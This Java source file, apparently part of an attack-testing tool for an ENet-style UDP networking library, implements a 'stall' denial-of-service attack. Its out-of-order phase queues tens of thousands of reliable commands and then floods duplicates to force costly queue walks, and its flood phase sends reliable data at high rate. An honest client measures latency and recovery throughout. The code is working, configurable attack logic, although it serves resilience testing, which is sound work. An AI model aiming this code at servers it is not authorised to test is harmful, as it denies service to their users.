package dev.entitynet.examples.enetattack;

import dev.entitynet.examples.Arguments;
import dev.entitynet.examples.enetattack.session.EchoProbe;
import dev.entitynet.examples.enetattack.session.MilliClock;
import dev.entitynet.examples.enetattack.session.RawPeer;
import dev.entitynet.examples.enetattack.session.SessionListener;
import dev.entitynet.examples.enetattack.wire.SendReliableCommand;

import java.nio.ByteBuffer;
import java.util.List;
import java.util.Set;

/**
 * Head-of-line and CPU stalls by one connected peer, while an honest client measures echo round
 * trips. Phase {@code ooo}: tens of thousands of reliable commands queued out of order (sequence 1
 * never sent), then datagrams full of duplicates of the first few, each of which makes a
 * receiver that walks its queue to find a place walk all of it. Phase {@code flood}: reliable data
 * in order at full speed. Each phase has its own honest client and attacker; the attacker leaves
 * at the phase's end, then the tool waits until the honest client's echoes resume (the server may
 * still be working through a backlog) and reports how long that took. A quiet baseline comes
 * first. The honest session survived a phase when the server did not disconnect it and its echoes
 * resumed within 10 s (libenet drops a peer silently, so a dropped session just never recovers).
 */
final class StallAttack implements Attack {
    private static final int DUPLICATE_COMMAND_BYTES = SendReliableCommand.SIZE + 1;
    /** How long the honest client may wait for echoes to resume after a phase before it counts as cut off. */
    static final long RECOVERY_LIMIT_MILLIS = 10_000;

    @Override
    public String name() {
        return "stall";
    }

    @Override
    public String usage() {
        return "[--mode ooo|flood|both] [--seconds 3] [--ooo 20000] [--dup-head 64] [--rate 2000] [--flood-rate 20000] "
                + "[--flood-bytes 1024] [--attacker-acks yes|no] [--probe-interval-ms 20]";
    }

    @Override
    public Set<String> options() {
        return Set.of("mode", "seconds", "ooo", "dup-head", "rate", "flood-rate", "flood-bytes", "attacker-acks", "probe-interval-ms");
    }

    @Override
    public Results run(Target target, Arguments a) throws InterruptedException {
        String mode = a.stringValue("mode", "both");
        if (!Set.of("ooo", "flood", "both").contains(mode)) {
            throw new IllegalArgumentException("--mode takes ooo, flood or both, got '" + mode + "'");
        }
        long phaseMillis = (long) (a.doubleValue("seconds", 3) * 1000);
        long probeInterval = a.longValue("probe-interval-ms", 20);
        Results results = new Results(name());
        try (HonestProbe honest = HonestProbe.start(target, probeInterval, 5000)) {
            if (honest == null) {
                return results.put("baseline.honest_connected", false).put("honest_survived", false);
            }
            long start = MilliClock.millis();
            Thread.sleep(1000);
            report(results, "baseline", honest.probe().window(start, MilliClock.millis()));
        }
        List<String> phases = mode.equals("both") ? List.of("flood", "ooo") : List.of(mode);
        long worstP99 = 0;
        boolean survived = true;
        for (String phase : phases) {
            Phase run = phase.equals("ooo") ? new OutOfOrder(a) : new Flood(a);
            boolean alive = attackPhase(target, a, phase, run, phaseMillis, probeInterval, results);
            survived &= alive;
            worstP99 = Math.max(worstP99, (long) (results.number(phase + ".rtt_p99_ms") * 1000));
        }
        return results.put("rtt_p99_ms", worstP99 / 1000.0).put("honest_survived", survived);
    }

    /**
     * One phase with a fresh honest client (allowed {@link #RECOVERY_LIMIT_MILLIS} to connect, so
     * a server still busy with the previous phase's backlog gets time) and a fresh attacker.
     *
     * @return whether the honest session survived
     */
    private static boolean attackPhase(Target target, Arguments a, String phase, Phase run, long phaseMillis, long probeInterval,
                                       Results results) throws InterruptedException {
        try (HonestProbe honest = HonestProbe.start(target, probeInterval, RECOVERY_LIMIT_MILLIS);
             RawPeer attacker = RawPeer.open(target.anyLocal(), target.server(), target.channels(), target.random().nextInt(), false)) {
            results.put(phase + ".honest_connected", honest != null);
            attacker.acks(a.stringValue("attacker-acks", "yes").equals("no") ? RawPeer.Acks.NONE : RawPeer.Acks.ALL);
            if (honest == null || attacker.connect(5000) < 0) {
                results.put(phase + ".attacker_connected", false).put(phase + ".rtt_p99_ms", -1).put(phase + ".honest_survived", false);
                return false;
            }
            long from = MilliClock.millis();
            run.attack(attacker, from + phaseMillis);
            long to = MilliClock.millis();
            attacker.disconnect();
            long recovery = awaitRecovery(honest, to);
            boolean alive = recovery >= 0 && !honest.probe().disconnected();
            report(results, phase, honest.probe().window(from, to));
            results.put(phase + ".attack_datagrams", attacker.link().datagramsSent())
                    .put(phase + ".attack_bytes", attacker.link().bytesSent())
                    .put(phase + ".attack_commands", run.commands())
                    .put(phase + ".recovery_ms", recovery)
                    .put(phase + ".honest_survived", alive);
            return alive;
        }
    }

    /**
     * Waits until the honest probe gets the echo of a probe sent after the attack ended (the
     * server has worked through its backlog); the milliseconds from the attack's end until that
     * echo, or -1 when it did not come within the limit.
     */
    private static long awaitRecovery(HonestProbe honest, long attackEnd) throws InterruptedException {
        while (MilliClock.millis() - attackEnd < RECOVERY_LIMIT_MILLIS) {
            if (honest.probe().newestEchoedProbeMillis() >= attackEnd) {
                return honest.probe().lastEchoMillis() - attackEnd;
            }
            Thread.sleep(10);
        }
        return -1;
    }

    private static void report(Results results, String phase, EchoProbe.Window window) {
        results.put(phase + ".probes", window.sent())
                .put(phase + ".echoed", window.echoed())
                .put(phase + ".rtt_p50_ms", window.roundTripMicros().p50() / 1000.0)
                .put(phase + ".rtt_p99_ms", window.roundTripMicros().p99() / 1000.0)
                .put(phase + ".rtt_max_ms", window.roundTripMicros().max() / 1000.0);
    }

    /** One attack phase on a connected attacker. */
    private interface Phase {
        /** Attacks until {@code end} (tool millis). */
        void attack(RawPeer attacker, long end);

        /** Commands sent. */
        long commands();
    }

    /** Out-of-order queue, then duplicates near its head. */
    private static final class OutOfOrder implements Phase {
        final int queued;
        final int head;
        final double rate;
        final byte[] one = {0x4F};
        long commands;

        OutOfOrder(Arguments a) {
            this.queued = Math.min(a.intValue("ooo", 20000), MemoryAttack.SEQUENCE_BUDGET - 2);
            this.head = Math.max(1, Math.min(a.intValue("dup-head", 64), queued));
            this.rate = a.doubleValue("rate", 2000);
        }

        @Override
        public void attack(RawPeer attacker, long end) {
            int next = 0;
            while (next < queued) { // fill: sequence numbers 2 .. queued+1, packed
                ByteBuffer out = attacker.begin(true);
                while (next < queued && out.position() + DUPLICATE_COMMAND_BYTES <= RawPeer.MTU) {
                    SendReliableCommand.write(out, 0, 2 + next++, one, 0, 1);
                    commands++;
                }
                attacker.send();
                attacker.poll(0, SessionListener.NONE);
            }
            RatePacer pacer = new RatePacer(rate);
            int duplicate = 0;
            long nextPoll = 0;
            while (MilliClock.millis() < end) {
                for (int n = pacer.due(); n > 0; n--) {
                    ByteBuffer out = attacker.begin(true);
                    while (out.position() + DUPLICATE_COMMAND_BYTES <= RawPeer.MTU) {
                        SendReliableCommand.write(out, 0, 2 + duplicate, one, 0, 1);
                        duplicate = (duplicate + 1) % head;
                        commands++;
                    }
                    attacker.send();
                }
                long now = MilliClock.millis();
                if (now >= nextPoll) {
                    attacker.poll(0, SessionListener.NONE);
                    nextPoll = now + 20;
                }
                pacer.pause();
            }
        }

        @Override
        public long commands() {
            return commands;
        }
    }

    /** Reliable data in order, one packet per datagram, at the flood rate. */
    private static final class Flood implements Phase {
        final double rate;
        final byte[] payload;
        long commands;

        Flood(Arguments a) {
            this.rate = a.doubleValue("flood-rate", 20000);
            this.payload = new byte[Math.max(1, Math.min(a.intValue("flood-bytes", 1024), RawPeer.MTU - 32))];
            java.util.Arrays.fill(payload, (byte) 0x46);
        }

        @Override
        public void attack(RawPeer attacker, long end) {
            RatePacer pacer = new RatePacer(rate);
            long nextPoll = 0;
            while (MilliClock.millis() < end) {
                for (int n = pacer.due(); n > 0; n--) {
                    attacker.sendReliable(0, payload, 0, payload.length);
                    commands++;
                }
                long now = MilliClock.millis();
                if (now >= nextPoll) {
                    attacker.poll(0, SessionListener.NONE);
                    nextPoll = now + 5;
                }
                pacer.pause();
            }
        }

        @Override
        public long commands() {
            return commands;
        }
    }
}
